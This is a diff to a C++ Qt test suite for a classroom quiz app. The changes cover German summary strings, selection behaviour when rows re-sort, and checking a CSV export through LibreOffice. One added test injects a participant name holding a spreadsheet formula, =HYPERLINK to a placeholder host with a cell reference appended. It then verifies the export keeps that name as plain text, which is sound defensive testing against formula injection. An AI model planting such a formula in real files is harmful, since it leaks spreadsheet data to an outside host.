@@ -14,6 +14,7 @@
 #include <QTableView>
 #include <QTemporaryDir>
 #include <QTest>
+#include <QXmlStreamReader>
 
 namespace {
 
@@ -47,6 +48,47 @@ QStringList action(char who, int target, int coverState, int fails, int right, i
         QString::number(overall, 'f', 1), "3"};
 }
 
+// One cell of a flat OpenDocument spreadsheet: its value type, typed value, formula and text.
+struct SheetCell
+{
+    QString type;
+    QString value;
+    QString formula;
+    QString text;
+};
+
+QList<QList<SheetCell>> readFlatSheet(const QString& path)
+{
+    QList<QList<SheetCell>> rows;
+    QFile file(path);
+    if (!file.open(QIODevice::ReadOnly))
+        return rows;
+    QXmlStreamReader xml(&file);
+    while (!xml.atEnd()) {
+        xml.readNext();
+        if (!xml.isStartElement())
+            continue;
+        if (xml.name() == u"table-row") {
+            rows.append(QList<SheetCell>());
+        } else if (xml.name() == u"table-cell" && !rows.isEmpty()) {
+            const QXmlStreamAttributes a = xml.attributes();
+            SheetCell cell {a.value("office:value-type").toString(),
+                a.hasAttribute("office:time-value") ? a.value("office:time-value").toString()
+                                                    : a.value("office:value").toString(),
+                a.value("table:formula").toString(), {}};
+            const int repeated = qMax(1, a.value("table:number-columns-repeated").toInt());
+            cell.text = xml.readElementText(QXmlStreamReader::IncludeChildElements).trimmed();
+            for (int i = 0; i < repeated && i < 64; ++i)
+                rows.last().append(cell);
+        }
+    }
+    // Calc writes empty rows after the data.
+    while (!rows.isEmpty()
+        && std::all_of(rows.last().begin(), rows.last().end(), [](const SheetCell& c) { return c.text.isEmpty(); }))
+        rows.removeLast();
+    return rows;
+}
+
 struct Sender
 {
     QString computer;
@@ -66,6 +108,7 @@ private slots:
     void droppedMessages();
     void windowAndExport();
     void longNamesLeaveColumnsAlone();
+    void selectedQuestionStaysWhenRowsMove();
 };
 
 void TestNetClassModel::classProgress()
@@ -129,7 +172,8 @@ void TestNetClassModel::classProgress()
     QCOMPARE(participants.rowCount(), 3);
     QCOMPARE(participants.participantAt(1), id('C'));
     QCOMPARE(question(1, NetQuestionTable::NotYet), "3");
-    QVERIFY2(participants.summary().contains("Teilnehmer: 3") && participants.summary().contains("fertig: 1"),
+    QVERIFY2(
+        participants.summary().contains("Schüler: 2 (Quizstarts: 3)") && participants.summary().contains("fertig: 1"),
         qPrintable(participants.summary()));
 }
 
@@ -176,7 +220,7 @@ void TestNetClassModel::windowAndExport()
     window.show();
     QVERIFY(QTest::qWaitForWindowExposed(&window));
     QCOMPARE(window.participantView()->model()->rowCount(), 1);
-    QVERIFY(window.summaryText().contains("Teilnehmer: 1"));
+    QVERIFY(window.summaryText().contains("Schüler: 1"));
     // A participant joining later appears without losing the teacher's selection.
     window.participantView()->selectRow(0);
     participants.read(QHostAddress(), "PC-Aula", "karl", initMessage(id('K'), QString(), 46000.5).join("\r\n"));
@@ -193,26 +237,54 @@ void TestNetClassModel::windowAndExport()
     QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
     QVERIFY(bytes.contains("\"Rhein; \"\"Vater\"\" Rhein\";0;1;1;2\r\n"));
 
-    // A spreadsheet reads the same cells: LibreOffice turns the CSV into a table of its own.
+    // German LibreOffice Calc reads every column right, with formula evaluation and the detection
+    // of special numbers on (the CSV filter's options, import language 1031): headers stay text,
+    // 42 seconds are 42 seconds, a rate is a number, and a name that looks like a formula stays a
+    // name.
     const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
-    if (soffice.isEmpty())
-        QSKIP("LibreOffice is not installed");
+    QVERIFY2(!soffice.isEmpty(), "soffice (libreoffice-calc-nogui) is needed to read the export");
+    const QString formula = QStringLiteral("=HYPERLINK(\"http://x.invalid/\"&A1;\"Klick mich\")");
+    participants.read(QHostAddress(), "PC-Aula", "@karl", initMessage(id('F'), formula, 46000.5).join("\r\n"));
     window.pages()->setCurrentIndex(0);
     const QString participantsPath = dir.filePath("teilnehmer.csv");
     QVERIFY(window.exportPage(participantsPath, true));
     QProcess convert;
     convert.setWorkingDirectory(dir.path());
     convert.start(soffice,
-        {"-env:UserInstallation=file://" + dir.filePath("lo"), "--headless", "--convert-to",
-            "html:HTML (StarCalc):EmbedImages", "--infilter=CSV:59,34,76,1", participantsPath, "--outdir", dir.path()});
+        {"-env:UserInstallation=file://" + dir.filePath("lo"), "--headless", "--convert-to", "fods",
+            "--infilter=CSV:59,34,76,1,,1031,false,true,false,false,false,0,true", participantsPath, "--outdir",
+            dir.path()});
     QVERIFY(convert.waitForFinished(120000));
-    QFile html(dir.filePath("teilnehmer.html"));
-    QVERIFY2(html.open(QIODevice::ReadOnly), qPrintable(convert.readAllStandardError()));
-    const QString table = QString::fromUtf8(html.readAll());
-    QVERIFY(table.contains(QStringLiteral("Jürgen Müller")));
-    QVERIFY(table.contains(QStringLiteral("PC-Büro")));
-    // One cell per column: the header's and each row's cells.
-    QCOMPARE(table.count(QStringLiteral("<td")), 3 * NetParticipantTable::ColumnCount);
+    const QList<QList<SheetCell>> sheet = readFlatSheet(dir.filePath("teilnehmer.fods"));
+    QVERIFY2(sheet.size() == 4, qPrintable(convert.readAllStandardError()));
+    QStringList headers;
+    for (const SheetCell& cell : sheet.first()) {
+        QCOMPARE(cell.type, QStringLiteral("string"));
+        headers << cell.text;
+    }
+    QCOMPARE(headers.mid(NetParticipantTable::Right, 3),
+        QStringList({"Richtige Antworten", "Falsche Antworten", "Offene Fragen"}));
+    QCOMPARE(headers.at(NetParticipantTable::Time), QStringLiteral("Bearbeitungszeit (h:mm:ss)"));
+    QCOMPARE(headers.at(NetParticipantTable::SuccessRate), QStringLiteral("Quote (%)"));
+    const auto rowNamed = [&](const QString& name) {
+        for (const QList<SheetCell>& row : sheet)
+            if (row.value(NetParticipantTable::Name).text.contains(name))
+                return row;
+        return QList<SheetCell>();
+    };
+    const QList<SheetCell> juergen = rowNamed(QStringLiteral("Jürgen Müller"));
+    QCOMPARE(juergen.value(NetParticipantTable::Computer).text, QStringLiteral("PC-Büro"));
+    QCOMPARE(juergen.value(NetParticipantTable::Time).type, QStringLiteral("time"));
+    QCOMPARE(juergen.value(NetParticipantTable::Time).value, QStringLiteral("PT00H00M42S"));
+    QCOMPARE(juergen.value(NetParticipantTable::SuccessRate).type, QStringLiteral("float"));
+    QCOMPARE(juergen.value(NetParticipantTable::SuccessRate).value, QStringLiteral("33.3"));
+    const QList<SheetCell> forged = rowNamed(QStringLiteral("HYPERLINK"));
+    QVERIFY(!forged.isEmpty());
+    for (const int column : {int(NetParticipantTable::Name), int(NetParticipantTable::User)}) {
+        QCOMPARE(forged.value(column).type, QStringLiteral("string"));
+        QVERIFY(forged.value(column).formula.isEmpty());
+    }
+    QCOMPARE(forged.value(NetParticipantTable::Name).text, u'\'' + formula);
 }
 
 // Rows with the longest names a message may carry leave the columns as they were (measuring every
@@ -239,6 +311,29 @@ void TestNetClassModel::longNamesLeaveColumnsAlone()
         QCOMPARE(header->sectionSize(column), widths.at(column));
     const QModelIndex named = window.participantView()->model()->index(3, NetParticipantTable::Name);
     QCOMPARE(named.data(Qt::ToolTipRole).toString(), longName);
+}
+
+// The questions' page sorts by mistakes; the teacher's selected question stays selected when it
+// moves.
+void TestNetClassModel::selectedQuestionStaysWhenRowsMove()
+{
+    NetParticipantTable participants;
+    NetQuestionTable questions(participants);
+    participants.reset(rivers());
+    questions.reset(rivers());
+    NetControlWindow window(participants, questions);
+    window.pages()->setCurrentIndex(1);
+    window.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&window));
+    QTableView* view = window.questionView();
+    view->selectRow(2);
+    QCOMPARE(questions.objectAt(2), 2);
+    participants.read(QHostAddress(), "PC01", "anna", initMessage(id('A'), QString(), 46000.5).join("\r\n"));
+    participants.read(QHostAddress(), "PC01", "anna", action('A', 2, CoverState::Open, 3, 0, 1, 3).join("\r\n"));
+    QCOMPARE(questions.objectAt(0), 2);
+    const QModelIndexList selected = view->selectionModel()->selectedRows();
+    QCOMPARE(selected.size(), 1);
+    QCOMPARE(questions.objectAt(selected.first().row()), 2);
 }
 
 QTEST_MAIN(TestNetClassModel)
